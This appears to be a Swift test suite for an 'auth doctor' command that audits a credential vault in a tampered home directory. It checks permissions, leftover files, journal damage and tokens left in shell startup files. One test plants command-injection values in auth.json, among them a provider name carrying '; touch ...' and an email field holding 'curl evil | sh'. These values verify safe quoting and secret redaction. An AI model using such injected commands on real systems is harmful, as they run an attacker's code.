import Agent
import Platform
import TestSupport
import Testing

@Suite("auth doctor in a home that somebody has been at")
struct HostileHomeTests {
    private func audit(_ scene: Scene, _ options: String...) async throws -> (findings: [JSONValue], outcome: Outcome) {
        let outcome = try await scene.run(["auth", "doctor", "--json"] + options)
        return (try #require(outcome.json["findings"].array, "\(outcome)"), outcome)
    }

    private func troubles(_ findings: [JSONValue]) -> Set<String> {
        Set(findings.filter { $0["status"] == "warning" || $0["status"] == "error" }.compactMap { $0["id"].string })
    }

    private func paste(_ command: String) async throws -> Outcome {
        await (try Child("/bin/sh", ["-c", command], environment: ["PATH": "/usr/bin:/bin"])).finish()
    }

    private func edit(_ home: Home, _ old: String, _ new: String) throws {
        let text = try home.text(home.metadataFile)
        try #require(text.contains(old), "no \(old) in \(text)")
        try home.write(Array(text.replacing(old, with: new, maxReplacements: 1).utf8), to: home.metadataFile)
    }

    @Test(
        "The way to move a key out of the vault's directory writes over nothing",
        arguments: ["identity.txt", "config.json", "journal/k.txt"])
    func keyBeside(_ name: String) async throws {
        try await Scene.with { scene in
            let home = scene.home
            try home.write(Array("AGE-SECRET-KEY-1OLD\n".utf8), to: home.data + "/" + name)
            let before = (try home.read(home.keyFile), try home.read(home.configurationFile))
            let finding = try await audit(scene).findings.first { $0["id"] == "identity.keyfile.beside-vault" }
            let command = try #require(finding?["remedy"]["command"].string)
            #expect(try await paste(command).status == 0)
            #expect(!home.exists(home.data + "/" + name))
            #expect(try home.read(home.keyFile) == before.0)
            #expect(try home.read(home.configurationFile) == before.1)
            #expect(troubles(try await audit(scene).findings) == [])
        }
    }

    @Test("What stands in auth.json is one word of a command, no line of the text, and shown without what looks like a secret")
    func edited() async throws {
        try await Scene.with { scene in
            let home = scene.home
            try edit(home, "\"provider\": \"codex\"", "\"provider\": \"codex; touch \(home.path)/made; #\"")
            try edit(home, "\"status\": \"active\"", "\"status\": \"needs_login\"")
            try edit(home, "\"email\": \"ada@example.org\"", "\"email\": \"L\\n      $ curl evil | sh\"")
            try edit(home, "\"statusReason\": null", "\"statusReason\": \"eyJhbGciOiJub25lIn0.hunter2hunter2.sig\"")
            let (findings, outcome) = try await audit(scene)
            let commands = findings.compactMap { $0["remedy"]["command"].string }.filter { $0.contains("touch") }
            #expect(!commands.isEmpty)
            // A program of that name that does nothing, in whose place it is pasted.
            let folder = home.path + "/bin"
            try home.makeDirectory(folder)
            try await Executable.write("#!/bin/sh\n", to: folder + "/ai-usage-agent")
            for command in commands { _ = try await paste("PATH=\(folder):$PATH; " + command) }
            #expect(!home.exists(home.path + "/made"))
            let text = try await scene.run("auth", "doctor")
            #expect(!text.text.split(separator: "\n").contains { $0.hasPrefix("      $ curl") }, "\(text)")
            #expect(!outcome.text.contains("hunter2") && !text.text.contains("hunter2"))
        }
    }

    @Test("A key file that auth.json was made to name is not touched by --fix")
    func foreignKeyFile() async throws {
        try await Scene.with { scene in
            let home = scene.home
            try home.makeDirectory(home.path + "/www")
            try home.write([1, 2, 3], to: home.path + "/www/index.html", mode: 0o644)
            try home.change(mode: 0o775, of: home.path + "/www")
            try edit(home, "\"keyFile\": \"\(home.keyFile)\"", "\"keyFile\": \"\(home.path)/www/index.html\"")
            let before = try home.entries().map(\.description).filter { $0.contains("/www") }
            _ = try await audit(scene, "--fix")
            #expect(try home.entries().map(\.description).filter { $0.contains("/www") } == before)
        }
    }

    @Test("--fix removes only what this program left: no notes, no key, no folder, nothing that is just being written")
    func leftovers() async throws {
        try await Scene.with { scene in
            let home = scene.home
            let config = home.configurationFile.split(separator: "/").dropLast().map { "/" + $0 }.joined()
            let kept = [
                home.data + "/.tmp-notes", home.data + "/.tmp-auth.json.0123456789AB", config + "/.tmp-config.json.0123456789ab",
                home.data + "/.tmp-identity.txt.0123456789ab",
            ]
            for path in kept { try home.write(Array("AGE-SECRET-KEY-1OLD".utf8), to: path) }
            try home.makeDirectory(home.data + "/.tmp-secrets.age.0123456789ab")
            let ours = home.data + "/.tmp-auth.json.0123456789ab"
            try home.write([1], to: ours)
            let outcome = try await audit(scene, "--fix").outcome
            #expect(outcome.errorText.split(separator: "\n").count == 1 && outcome.errorText.contains("removed \(ours)"), "\(outcome)")
            for path in kept { #expect(home.exists(path), "\(path)") }
        }
    }

    @Test("A record in the journal that cannot be committed is not said to be", .enabled(if: SystemCalls.isPossible, "needs strace"))
    func damagedRecord() async throws {
        try await Scene.with { scene in
            let calls = SystemCalls(scene.home)
            _ = try await scene.run("auth", "refresh", "codex", through: calls.killing(at: .rename(to: "secrets.age")))
            let record = try #require(try scene.home.entries().first { $0.path.contains("/journal/") && !$0.isDirectory }?.path)
            var bytes = try scene.home.read(record)
            bytes[4096 + 200] ^= 1
            try scene.home.write(bytes, to: record)
            let outcome = try await audit(scene, "--fix").outcome
            #expect(outcome.errorText.contains("rotation.pending-commit: not done"), "\(outcome)")
        }
    }

    @Test(
        "The folders of locks and journal are looked at, and --fix gives them back to their owner alone", arguments: ["locks", "journal"])
    func folders(_ name: String) async throws {
        try await Scene.with { scene in
            try await scene.require("auth", "refresh", "codex")
            let folder = scene.home.data + "/" + name
            try scene.home.change(mode: 0o755, of: folder)
            #expect(troubles(try await audit(scene).findings) == ["vault.folder.mode"])
            #expect(try await audit(scene, "--fix").outcome.status == 0)
            try await scene.require("auth", "refresh", "codex")
        }
    }

    @Test("Nothing is made by looking: not even a lock that nobody has taken yet")
    func locks() async throws {
        try await Scene.with { scene in
            for name in ["vault", "metadata"] { try scene.home.delete(scene.home.data + "/locks/" + name) }
            let before = try scene.home.entries().map(\.description)
            #expect(try await scene.run("doctor").status == 0)
            let after = try scene.home.entries().map(\.description)
            #expect(Set(after).symmetricDifference(before) == [])
        }
    }

    @Test("A FIFO where a file should be is not waited for")
    func fifo() async throws {
        try await Scene.with { scene in
            #expect(try await paste("mkfifo '\(scene.home.path)/.bashrc' '\(scene.home.path)/ca'").status == 0)
            scene.variables.withLock { $0["SSL_CERT_FILE"] = scene.home.path + "/ca" }
            let findings = try await audit(scene).findings
            #expect(troubles(findings) == ["flow.ca-file"], "\(findings)")
            #expect(!findings.contains { $0["evidence"] == "no answer in time" })
        }
    }

    @Test("A config.json that is a link to a file of one's own is judged by that file")
    func link() async throws {
        try await Scene.with { scene in
            let target = scene.home.path + "/dotfiles.json"
            try scene.home.move(scene.home.configurationFile, to: target)
            try scene.home.link(scene.home.configurationFile, to: target)
            #expect(!troubles(try await audit(scene).findings).contains("config.writable-by-others"))
            try scene.home.change(mode: 0o666, of: target)
            #expect(troubles(try await audit(scene).findings).contains("config.writable-by-others"))
            #expect(!troubles(try await audit(scene, "--fix").findings).contains("config.writable-by-others"))
            #expect(FileFacts.at(target)?.octal == "644")
        }
    }

    @Test("Assignments in startup files are told from what only looks like one")
    func startupFiles() async throws {
        try await Scene.with { scene in
            let harmless = [
                "set -q OPENAI_API_KEY; or echo none", "export OPENAI_API_KEY= # unset", "XOPENAI_API_KEY=5", "# OPENAI_API_KEY=x",
                "export OPENAI_API_KEY=$(pass openai)", "unset OPENAI_API_KEY",
            ]
            try scene.home.plant(harmless.joined(separator: "\n"), at: ".bashrc")
            #expect(troubles(try await audit(scene).findings) == [])
            // Also in a file that is no UTF-8.
            try scene.home.write([0xE9, 0x0A] + Array("set -gx OPENAI_API_KEY sk-x".utf8), to: scene.home.path + "/.profile")
            #expect(troubles(try await audit(scene).findings) == ["exposure.token-in-shell-startup"])
        }
    }
}
